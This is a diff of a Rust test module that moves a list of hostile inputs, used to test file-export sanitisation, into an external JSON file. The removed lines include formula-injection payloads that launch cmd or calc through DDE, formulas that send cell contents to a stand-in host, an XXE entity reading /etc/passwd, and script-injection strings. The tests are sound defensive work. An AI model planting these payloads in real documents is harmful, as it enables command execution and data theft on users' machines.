@@ -1,93 +1,21 @@
-//! What people could type to do harm where a file is opened: one list for every format.
+//! What people could type to do harm where a file is opened: one list for every format, and for the
+//! tests outside of Rust too.
+
+use std::sync::LazyLock;
+
+static TEXTS: LazyLock<Vec<String>> = LazyLock::new(|| {
+    serde_json::from_str(include_str!("../../../tests/hostile.json")).expect("a list of texts")
+});
 
 /// Formulas, markup, separators, control characters, marks of direction, and long or strange texts.
-pub(crate) const HOSTILE: &[&str] = &[
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    "=HYPERLINK(\"https://a.example?x=\"&A1,\"here\")",
-    "=IMPORTXML(CONCAT(\"https://a.example/\",A1),\"//a\")",
-    "=WEBSERVICE(\"https://a.example\")",
-    "=DDE(\"cmd\";\"/C calc\";\"x\")",
-    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
-    "+1+1",
-    "+cmd|' /C calc'!A0",
-    "-1+1",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1,1)",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    " =1+1",
-    "   +1",
-    "\u{a0}=1+1",
-    "\u{3000}=1+1",
-    "\u{feff}=1+1",
-    "\u{200b}=1+1",
-    "\u{202e}=1+1",
-    "\u{2066}=1+1",
-    "\u{0}=1+1",
-    "\u{1}=1+1",
-    "\u{1b}[31m=1+1",
-    "＝1+1",
-    "＋1",
-    "－1",
-    "＠SUM(1)",
-    "'=1+1",
-    "\"=1+1",
-    "\"\"=1+1",
-    "a\",=1+1,\"b",
-    "a\";=1+1;\"b",
-    "a;=1+1",
-    "a;;=1+1",
-    "a\t=1+1",
-    "a|=1+1",
-    "a\n=1+1\n+2\n-3\n@4",
-    "a\r\n=1+1",
-    "a\r=1+1",
-    "a\u{2028}=1+1",
-    "a\u{85}=1+1",
-    "a\u{b}=1+1",
-    "a\n\n  - b\n  =c",
-    "{=1+1}",
-    "%0A=1+1",
-    "sep=;",
-    "ID",
-    "</t></is></c><c><f>1+1</f></c>",
-    "<f>HYPERLINK(\"https://a.example\")</f>",
-    "]]><f>1+1</f>",
-    "<r><t>1+1</t></r>",
-    "<r></si><si><f>1+1</f></r>",
-    "&#61;1+1",
-    "_x003D_1+1",
-    "_x000D__x0000_",
-    "https://a.example/=1+1",
-    "mailto:a@b.example",
-    "file:///etc/passwd",
-    "\\\\a.example\\share",
-    "internal:'Answers'!A1",
-    "javascript:alert(1)",
-    "</style></title><script>alert(1)</script>",
-    "<!ENTITY x SYSTEM \"file:///etc/passwd\">&x;",
-    "<?xml version=\"1.0\"?><!DOCTYPE a>",
-    "{\"a\": 1}, \"b\": [",
-    "\\u003c \\\" \\",
-    "1E5",
-    "0012",
-    "1/2",
-    "2026-11-24",
-    "TRUE",
-    "#REF!",
-    "مرحبا =1+1",
-    "e\u{301}\u{1f469}\u{200d}\u{1f4bb}",
-    "\u{fffe}\u{ffff}\u{10ffff}",
-    "{count} {name} {0}",
-];
+pub(crate) fn hostile() -> impl Iterator<Item = &'static str> {
+    TEXTS.iter().map(String::as_str)
+}
 
 #[test]
 fn the_list_is_long_and_holds_nothing_twice() {
-    let mut single = HOSTILE.to_vec();
+    let mut single = TEXTS.clone();
     single.sort_unstable();
     single.dedup();
-    assert!(single.len() == HOSTILE.len() && single.len() >= 60);
+    assert!(single.len() == TEXTS.len() && single.len() >= 60);
 }
